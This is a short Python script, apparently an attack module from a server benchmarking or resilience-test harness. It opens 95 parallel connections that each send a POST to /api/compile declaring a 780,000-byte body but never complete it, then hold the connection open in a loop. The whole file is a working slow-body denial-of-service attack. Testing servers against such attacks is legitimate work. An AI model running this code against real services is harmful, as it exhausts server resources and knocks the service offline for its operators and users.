"""Bodies as large as they may be, on as many connections as there may be, which never quite end."""

from __future__ import annotations

import time

from bench.attacks.client import GoesOn, connect, main, side_by_side

CONNECTIONS = 95
BODY_BYTES = 780_000
HEAD = f"POST /api/compile HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {BODY_BYTES}"


def attack(port: int, source: str, goes_on: GoesOn) -> None:
    def hold(_: int) -> None:
        while goes_on():
            try:
                with connect(port, source) as connection:
                    connection.sendall(HEAD.encode() + b"\r\n\r\n" + b" " * (BODY_BYTES - 1))
                    connection.settimeout(60)
                    connection.recv(65536)
            except OSError:
                pass
            time.sleep(0.1)

    side_by_side(CONNECTIONS, hold)


if __name__ == "__main__":
    main(attack)
